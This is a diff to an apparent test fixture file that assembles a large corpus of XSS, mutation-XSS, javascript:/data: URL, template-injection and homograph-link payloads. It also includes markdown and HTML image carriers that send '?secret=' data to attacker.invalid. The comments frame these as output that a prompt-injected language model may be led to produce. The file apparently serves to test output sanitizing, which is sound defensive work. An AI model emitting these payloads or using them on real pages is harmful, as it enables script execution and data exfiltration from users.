@@ -1,5 +1,8 @@
-/** What a model may be made to say by whoever wrote the documents that it reads. Each sets `attacked`, or calls home. */
-export const HOSTILE = [
+const RUN = 'globalThis.attacked=1';
+const HOME = 'https://attacker.invalid';
+
+/** Markup of every kind, as it is and as it becomes when somebody reads it twice. */
+const MARKUP = [
   '<script>globalThis.attacked = 1</script>',
   '<img src=x onerror="globalThis.attacked = 1">',
   '<img src="https://attacker.invalid/pixel.png?secret=1">',
@@ -38,4 +41,112 @@ export const HOSTILE = [
   'A note[^1].\n\n[^1]: <img src=x onerror="globalThis.attacked = 1"> ![x](https://attacker.invalid/note.png)',
   '<![CDATA[<script>globalThis.attacked = 1</script>]]>',
   '$$\\href{javascript:globalThis.attacked=1}{x}$$',
-].join('\n\n');
+];
+
+/** What one reader takes for text and the next one for markup. */
+const MUTATIONS = [
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='${RUN}'>`,
+  `<svg><foreignObject><body onload="${RUN}"></foreignObject></svg>`,
+  `<svg><animate attributeName=href values=javascript:${RUN} /><a id=x><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
+  `<math href="javascript:${RUN}"><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
+  `<template><img src=x onerror="${RUN}"></template>`,
+  `<textarea></textarea><img src=x onerror="${RUN}"></textarea>`,
+  `<xmp><img src=x onerror="${RUN}"></xmp><plaintext><img src=x onerror="${RUN}">`,
+  `<img src="x\0" on\0error="${RUN}">`,
+  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
+  `<<SCRIPT>${RUN};//\\<</SCRIPT>`,
+  `<img/src=x/onerror=${RUN}//`,
+  `<input autofocus onfocus="${RUN}"><select onfocus="${RUN}" autofocus>`,
+  `<div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p>x</button>`,
+  `<div style="animation-name:x" onanimationstart="${RUN}"></div>`,
+  `<div onpointerrawupdate="${RUN}" style="position:fixed;inset:0;z-index:9999">x</div>`,
+  `<marquee onstart="${RUN}">x</marquee><body onpageshow="${RUN}">`,
+  `<portal src="${HOME}/portal"></portal><fencedframe></fencedframe><frameset onload="${RUN}">`,
+  `<isindex action="javascript:${RUN}" type=image><keygen autofocus onfocus="${RUN}">`,
+  `&lt;img src=x onerror="${RUN}"&gt; &amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
+  `<!--[if gte IE 4]><script>${RUN}</script><![endif]--> <!--> <img src=x onerror="${RUN}"> -->`,
+  `<?xml version="1.0"?><?php ${RUN} ?> <!DOCTYPE x [<!ENTITY e SYSTEM "${HOME}/entity">]>`,
+  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
+];
+
+/** Addresses that are no addresses of pages, in every disguise. */
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `javascript&#58;${RUN}`,
+  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${RUN}`,
+  `%6Aavascript:${RUN}`,
+  `javascript://attacker.invalid/%0A${RUN}`,
+  `JAVASCRIPT:${RUN}`,
+  `\u212Aavascript:${RUN}`,
+  `ｊavascript:${RUN}`,
+  `view-source:javascript:${RUN}`,
+  `feed:javascript:${RUN}`,
+  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
+  `DATA:text/html,<script>opener.attacked=1</script>`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='opener.attacked=1'/>`,
+  `blob:${HOME}/0`,
+  `filesystem:${HOME}/temporary/x`,
+  `intent://attacker.invalid#Intent;scheme=http;end`,
+  `ms-settings:privacy`,
+  `\\\\attacker.invalid\\share`,
+  '/graphql?query=mutation{logout}',
+  'constructor',
+  '__proto__',
+].flatMap((address) => [`[click](<${address}>)`, `[click](${address})`, `![picture](<${address}>)`, `<${address}>`]);
+
+/** Words that are carried away, in an address that is fetched before anybody has clicked. */
+const CARRIERS = [
+  `![](${HOME}/empty.png?secret=3)`,
+  `[![nested](${HOME}/nested.png)](${HOME}/outer)`,
+  `![a ![b ![c](${HOME}/c.png)](${HOME}/b.png)](${HOME}/a.png)`,
+  `![collapsed][]\n\n[collapsed]: ${HOME}/collapsed.png "title"`,
+  `![ĸ][Σς]\n\n[σσ]: <${HOME}/folded.png>`,
+  `![wide](${HOME}/1.png =100x100) ![set](${HOME}/2.png 2x, ${HOME}/3.png 3x)`,
+  `[note][^deep]\n\n[^deep]: ![x](${HOME}/deep.png)\n\n    ![y](${HOME}/deeper.png)`,
+  `www.attacker.invalid/bare?secret=4 secret@attacker.invalid ftp://attacker.invalid/ xmpp:secret@attacker.invalid/x`,
+  `<https://attacker.invalid/angle> <secret@attacker.invalid> mailto:secret@attacker.invalid?body=words`,
+  `<picture><source srcset="${HOME}/source.png"><img srcset="${HOME}/set.png 1x"></picture>`,
+  `<svg><image href="${HOME}/image.svg"/><filter><feImage href="${HOME}/fe.svg"/></filter></svg>`,
+  `<table background="${HOME}/table.png"><td background="${HOME}/cell.png">x</td></table>`,
+  `<link rel=preconnect href="${HOME}"><link rel=dns-prefetch href="//secret.attacker.invalid"><link rel=modulepreload href="${HOME}/m.js">`,
+  `<track src="${HOME}/track.vtt"><input type=image src="${HOME}/input.png"><video poster="${HOME}/poster.png">`,
+  `<a href="${HOME}/ping" ping="${HOME}/pinged" attributionsrc="${HOME}/attribution">x</a>`,
+  `<p style="background:url(${HOME}/style.png);list-style:url('${HOME}/list.png')">x</p>`,
+  `<style>@font-face{font-family:x;src:url(${HOME}/font.woff)} input[value^=a]{background:url(${HOME}/a)}</style>`,
+  `<script type=speculationrules>{"prefetch":[{"urls":["${HOME}/speculated"]}]}</script>`,
+  `<iframe src="${HOME}/frame" loading=eager></iframe><iframe srcdoc="<img src=${HOME}/srcdoc.png>"></iframe>`,
+];
+
+/** Names that code of a page may look up, and what hides what a text says. */
+const NAMES = [
+  '<a id=defaultView name=documentElement>x</a> <form id=document><input name=body></form> <img name=currentScript>',
+  '<div id=constructor class=__proto__>x</div> [constructor] [__proto__][toString] [^hasOwnProperty]',
+  '[__proto__]: https://attacker.invalid/proto\n[constructor]: javascript:globalThis.attacked=1\n[toString]: data:,x',
+  '```__proto__\ncode\n```\n\n```constructor" onmouseover="globalThis.attacked=1\ncode\n```',
+  '# <a name="root"></a> Heading {#root onclick=globalThis.attacked=1}',
+  '[https://bank.example](https://attacker.invalid/mask) [bank.example](https://attacker.invalid/bank)',
+  '[\u202Emoc.elpmaxe.knab\u202C](https://attacker.invalid/turned) [ba\u200Bnk.example](https://attacker.invalid/gap)',
+  'https://bаnk.example/ https://bank.example@attacker.invalid/ https://bank.example%2F@attacker.invalid/',
+  'Z\u0351\u036B\u0343\u036A\u0302a'.repeat(20),
+  '\u2066\u202Eevil\u2069 \uFEFF\u200D\u{E0041}\u{E0042} \uD800 \0',
+];
+
+/** What a model may be made to say by whoever wrote the documents that it reads. Each sets `attacked`, or calls home. */
+export const HOSTILE = [...MARKUP, ...MUTATIONS, ...ADDRESSES, ...CARRIERS, ...NAMES].join('\n\n');
+
+/** For places that take a line: titles, and names of things. */
+export const HOSTILE_NAMES = [
+  `<img src=x onerror="${RUN}">`,
+  `"><script>${RUN}</script>`,
+  `![x](${HOME}/name.png)`,
+  `[x](javascript:${RUN}) '"&lt;img src=x onerror=${RUN}&gt;`,
+  '\u202Efdp.exe __proto__ {{constructor}}',
+];
